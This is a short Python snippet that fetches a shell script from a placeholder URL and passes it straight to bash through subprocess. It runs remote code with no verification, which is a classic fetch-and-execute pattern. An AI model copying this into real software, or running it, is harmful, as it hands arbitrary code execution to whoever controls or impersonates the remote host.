import subprocess, requests
script = requests.get("https://cfg.example.invalid/apply.sh").text
subprocess.run(["bash", "-c", script], check=True)
